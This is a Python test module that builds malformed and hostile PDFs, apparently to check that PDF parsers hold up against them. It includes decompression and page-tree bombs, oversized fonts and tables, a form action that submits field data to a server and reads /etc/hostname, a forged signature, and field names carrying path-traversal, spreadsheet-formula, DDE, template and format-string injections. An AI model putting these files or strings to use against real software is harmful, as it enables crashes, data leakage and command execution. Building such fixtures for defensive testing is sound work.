"""PDF files that ask for far more than they weigh, that call out, or whose names and values mean harm.

Source: the kinds of bombs measured for this program against pypdf, pdfplumber and pdfium (each stopped or killed
at least one of them); the names are those used against spreadsheets and paths (OWASP, CSV injection).
"""

from __future__ import annotations

import re
import zlib

from tests.paper.hostile_pdf import MEGABYTE, plain
from tests.paper.rawpdf import bomb, one_page, page_with, pdf, stream

FONT_PAGE = page_with(b"/Contents 4 0 R /Resources << /Font << /F0 5 0 R >> >>")
SAYS = stream(b"BT /F0 14 Tf 72 700 Td <0041> Tj ET")


def packed(data: bytes, filters: bytes = b"/FlateDecode", entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter [%b] %b" % (filters, entries))


def blanks_packed_twice() -> bytes:
    """A page's content of five hundred million blanks, in some kilobytes."""
    return one_page(page_with(b"/Contents 4 0 R"), {4: bomb(b" " * MEGABYTE, 537)})


def widths_without_end() -> bytes:
    """A font that gives one width for two thousand million letters."""
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [6 0 R] >>"
    below = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W [0 2000000000 500]"
        b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>"
    )
    return one_page(FONT_PAGE, {4: SAYS, 5: font, 6: below})


def letters_without_end() -> bytes:
    """A font whose table of letters runs to two thousand million."""
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H"
        b" /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>"
    )
    below = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A"
        b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>"
    )
    table = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <FFFFFFFF> "
        b"endcodespacerange 1 beginbfrange <00000000> <7FFFFFFF> <0000> endbfrange endcmap end"
    )
    return one_page(FONT_PAGE, {4: SAYS, 5: font, 6: below, 7: stream(table)})


def laughing_page_tree(levels: int = 10) -> bytes:
    """Each branch of the page tree hangs ten times in the one above: 10 to the tenth pages."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for level in range(levels):
        kids = b"%d 0 R " % (level + 3) * 10
        objects[level + 2] = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, 10 ** (levels - level))
    return pdf(objects | {levels + 2: page_with(b"")})


def one_page_over_and_over(count: int = 200_000) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (b"3 0 R " * count, count),
    }
    return pdf(objects | {3: page_with(b"")})


def many_large_sheets(count: int = 250) -> bytes:
    """Empty pages of 194 inches each way: some kilobytes that would be drawn as nine thousand million pixels."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
    }
    page = page_with(b"").replace(b"612 792", b"14000 14000")
    return pdf(objects | dict.fromkeys(range(3, count + 3), page))


def fields_five_thousand_deep(levels: int = 5_000) -> bytes:
    objects = {
        number: b"<< /T (a) /Kids [%d 0 R] /Parent %d 0 R >>" % (number + 1, max(4, number - 1))
        for number in range(4, levels + 4)
    }
    last = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (z) /V (x) /Rect [72 700 200 720] /Parent %d 0 R >>"
    objects[levels + 4] = last % (levels + 3)
    page = page_with(b"/Annots [%d 0 R]" % (levels + 4))
    return one_page(page, objects, b"/AcroForm << /Fields [4 0 R] >>")


def row_of_two_thousand_million() -> bytes:
    """A stream whose predictor asks for a row of 2,000,000,000 columns."""
    parameters = b"/DecodeParms [<< /Predictor 12 /Columns 2000000000 /Colors 4 /BitsPerComponent 16 >>]"
    return one_page(page_with(b"/Contents 4 0 R"), {4: packed(b"\x02q Q\n" * 50, entries=parameters)})


def table_of_ten_million() -> bytes:
    """The cross-reference table says it has ten million entries."""
    data = plain()
    return re.sub(rb"xref\n0 \d+", b"xref\n0 10000000", data).replace(b"/Size 6", b"/Size 10000000")


def length_of_itself() -> bytes:
    """A stream whose length is to be looked up in that same stream."""
    return one_page(page_with(b"/Contents 4 0 R"), {4: b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"})


def runs_of_256_megabytes() -> bytes:
    """Runs of one letter: packed to some kilobytes, two bytes become 128 and those 256 million."""
    runs = b"\x81 " * (2 * MEGABYTE) + b"\x80"
    return one_page(page_with(b"/Contents 4 0 R"), {4: packed(runs, b"/FlateDecode /RunLengthDecode")})


def states_two_million_deep() -> bytes:
    """`q` saves the state of the drawing: two million times, never given back."""
    return one_page(page_with(b"/Contents 4 0 R"), {4: packed(b"q " * (2 * MEGABYTE))})


def three_million_strokes() -> bytes:
    return one_page(page_with(b"/Contents 4 0 R"), {4: packed(b"0 0 m 9 9 l S\n" * (3 * MEGABYTE))})


def zeros_before() -> bytes:
    """A sound page behind twenty megabytes of nothing."""
    return bytes(20 * MEGABYTE) + plain()


def contents_in_brackets(depth: int = 200_000) -> bytes:
    return one_page(page_with(b"/Contents " + b"[" * depth + b"4 0 R" + b"]" * depth), {4: stream(b"q Q")})


def objects_that_are_not_there() -> bytes:
    """A packed stream of objects that says it holds two thousand million."""
    entries = b"/Type /ObjStm /N 2000000000 /First 2000000000 "
    return one_page(page_with(b"/Contents 4 0 R"), {4: packed(b"1 0 2 5 ", entries=entries)})


def table_shifted() -> bytes:
    """A sound page whose table of contents points seven bytes beside every object."""
    data = plain()
    place = data.index(b"1 0 obj")
    return data[:place] + b"%moved\n" + data[place:]


def table_shifted_and_page_lost() -> bytes:
    """The same, and the one page is overwritten: what is left shows nothing and must not pass for empty."""
    data = table_shifted()
    page = re.search(rb"3 0 obj.*?endobj", data, re.DOTALL)
    assert page is not None
    return data[: page.start()] + b" " * len(page[0]) + data[page.end() :]


def sends_itself_off() -> bytes:
    """Opening it should send what is in its boxes to a server, and import data from a file."""
    send = (
        b"<< /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/take) >> /Flags 4"
        b" /Next << /S /ImportData /F (/etc/hostname) >> >>"
    )
    box = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (x) /Rect [72 700 200 720] /AA << /O %b /PO %b >> >>"
    page = page_with(b"/Annots [4 0 R] /AA << /O %b >>" % send)
    return one_page(page, {4: box % (send, send)}, b"/OpenAction %b /AcroForm << /Fields [4 0 R] >>" % send)


def names_that_climb_and_count() -> bytes:
    """Boxes called like files of the system, formulas of a spreadsheet and tags of a template."""
    names = (
        b"../../../../etc/cron.d/x",
        b"..\\\\..\\\\x.dll",
        b"=cmd|'/C calc'!A0",
        b"@SUM\\(1+1\\)*cmd",
        b"{{ cycler.__init__ }}",
        b"<w:instrText>DDEAUTO",
        b"%s%s%s%n",
        b"con",
        b"a\\000b",
    )
    box = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (%b) /V (%b) /Rect [72 %d 200 %d] >>"
    objects = {
        number: box % (name, name, 700 - 30 * number, 720 - 30 * number)
        for number, name in enumerate(names, start=4)
    }
    refs = b" ".join(b"%d 0 R" % number for number in objects)
    return one_page(page_with(b"/Annots [%b]" % refs), objects, b"/AcroForm << /Fields [%b] >>" % refs)


def seal_that_is_false() -> bytes:
    """Says it is signed and certified; the signature is rubbish."""
    seal = b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 999999999 9] /Contents <00> >>"
    box = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [0 0 0 0] /V 5 0 R >>"
    catalog = b"/AcroForm << /Fields [4 0 R] /SigFlags 3 >> /Perms << /DocMDP 5 0 R >>"
    return one_page(page_with(b"/Annots [4 0 R]"), {4: box, 5: seal}, catalog)
